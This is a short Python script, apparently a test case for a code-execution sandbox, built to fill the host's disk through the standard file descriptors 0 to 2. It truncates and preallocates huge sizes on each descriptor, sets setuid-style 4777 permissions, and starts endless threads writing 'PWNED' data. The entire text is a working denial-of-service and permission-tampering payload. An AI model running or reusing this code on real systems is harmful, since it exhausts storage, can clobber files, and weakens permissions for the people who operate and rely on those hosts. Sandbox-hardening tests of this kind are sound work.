# Fill the host's disk by way of the open files 0 to 2.
# ends: any
# %%
import os
import threading

for number in range(3):
    for act in (lambda: os.ftruncate(number, 2**40), lambda: os.posix_fallocate(number, 0, 2**28), lambda: os.fchmod(number, 0o4777)):
        try:
            act()
        except OSError:
            pass


def fill(number):
    try:
        while True:
            os.write(number, b"PWNED" * 2**20)
    except OSError:
        pass


for number in range(3):
    threading.Thread(target=fill, args=(number,), daemon=True).start()
